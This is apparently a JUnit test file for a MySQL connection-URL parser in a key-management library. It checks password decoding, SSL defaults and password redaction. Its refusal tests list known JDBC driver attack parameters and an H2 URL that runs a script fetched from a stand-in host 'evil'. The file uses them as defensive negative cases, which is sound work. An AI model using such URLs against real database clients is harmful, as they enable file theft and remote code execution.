package io.kms4j.store.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.kms4j.store.jdbc.MySqlSettings.SslMode;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class MySqlSettingsTest {
    @Test
    void parse_readsEveryPart() {
        MySqlSettings settings = MySqlSettings.parse(
                "mysql://kms:s%40cr%3Aet%2F+%C3%A9@db.example.com:3307/keys?sslMode=VERIFY_IDENTITY&connectTimeout=1500");

        assertThat(settings.host()).isEqualTo("db.example.com");
        assertThat(settings.port()).isEqualTo(3307);
        assertThat(settings.database()).isEqualTo("keys");
        assertThat(settings.user()).isEqualTo("kms");
        assertThat(password(settings)).isEqualTo("s@cr:et/+é");
        assertThat(settings.sslMode()).isEqualTo(SslMode.VERIFY_IDENTITY);
        assertThat(settings.connectTimeoutMillis()).isEqualTo(1500);
        assertThat(settings.unsafeDurability()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:mysql://localhost/keys?user=kms&password=pw",
                "jdbc:mariadb://kms:pw@localhost/keys",
                "mariadb://kms:pw@localhost:3306/keys",
                "mysql://kms@localhost/keys?password=pw"
            })
    void parse_takesEachSpelling(String url) {
        MySqlSettings settings = MySqlSettings.parse(url);

        assertThat(settings.host()).isEqualTo("localhost");
        assertThat(settings.port()).isEqualTo(3306);
        assertThat(settings.user()).isEqualTo("kms");
        assertThat(password(settings)).isEqualTo("pw");
    }

    @ParameterizedTest
    @CsvSource({
        "localhost, '', PREFERRED",
        "127.0.0.1, '', PREFERRED",
        "[::1], '', PREFERRED",
        "db.example.com, '', REQUIRED",
        "db.example.com, ?sslMode=disabled, DISABLED",
        "db.example.com, ?sslMode=verify-full, VERIFY_IDENTITY",
        "db.example.com, ?sslMode=verify-ca, VERIFY_CA",
        "db.example.com, ?sslMode=trust, REQUIRED",
        "localhost, ?useSSL=true, REQUIRED",
        "db.example.com, ?useSSL=false, DISABLED",
    })
    void parse_encryptsUnlessToldOtherwise(String host, String parameters, SslMode mode) {
        assertThat(MySqlSettings.parse("mysql://kms:pw@" + host + "/keys" + parameters)
                        .sslMode())
                .isEqualTo(mode);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "allowLoadLocalInfile=true",
                "allowUrlInLocalInfile=true",
                "autoDeserialize=true",
                "queryInterceptors=evil.Interceptor",
                "socketFactory=evil.Factory",
                "propertiesTransform=evil.Transform",
                "sessionVariables=sql_mode=''",
                "serverStatusDiffInterceptor=x",
                "SSLMODE=DISABLED",
                "%73slMode=DISABLED",
                "allowPublicKeyRetrieval=true",
                "&",
                "sslMode",
                "sslMode=none",
                "sslMode=REQUIRED&sslMode=DISABLED",
                "sslMode=REQUIRED&useSSL=false",
                "useSSL=yes",
                "user=other",
                "password=other",
                "connectTimeout=3001",
                "connectTimeout=0",
                "connectTimeout=1e3",
                "unsafeDurability=1",
            })
    void parse_refusesOtherParameters(String parameters) {
        assertRefused("mysql://kms:secret@localhost/keys?" + parameters);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "mysql://",
                "mysql://kms:secret@localhost",
                "mysql://kms:secret@localhost/",
                "mysql://kms:secret@localhost/a/b",
                "mysql://kms:secret@localhost:0/keys",
                "mysql://kms:secret@localhost:65536/keys",
                "mysql://kms:secret@localhost:x/keys",
                "mysql://kms:secret@one,two/keys",
                "mysql://kms:secret@(host=one,port=1)/keys",
                "mysql://kms:secret@address=(host=one)/keys",
                "mysql://kms:secret@[evil=1]/keys",
                "mysql://kms:secret@local host/keys",
                "mysql://kms:secret@localhost/ke'ys",
                "mysql://kms:secret@localhost/keys%3Fx",
                "mysql://kms:secr%et@localhost/keys",
                "mysql://kms:sec@ret@localhost/keys",
                "mysql://:secret@localhost/keys",
                "mysql://localhost/keys",
                "mysql:loadbalance://kms:secret@localhost/keys",
                "jdbc:mysql+srv://kms:secret@localhost/keys",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/secret'",
                "postgresql://kms:secret@localhost/keys",
                "mysql://kms:secret@localhost/keys\nx",
            })
    void parse_refusesOtherForms(String url) {
        assertRefused(url);
    }

    @Test
    void toString_hidesThePassword() {
        assertThat(MySqlSettings.parse("mysql://kms:secret@localhost/keys").toString())
                .doesNotContain("secret");
    }

    private static void assertRefused(String url) {
        assertThatThrownBy(() -> MySqlSettings.parse(url))
                .isInstanceOf(StoreException.class)
                .hasMessageNotContaining("secret");
    }

    private static String password(MySqlSettings settings) {
        return settings.password().lend(bytes -> new String(bytes, StandardCharsets.UTF_8));
    }
}
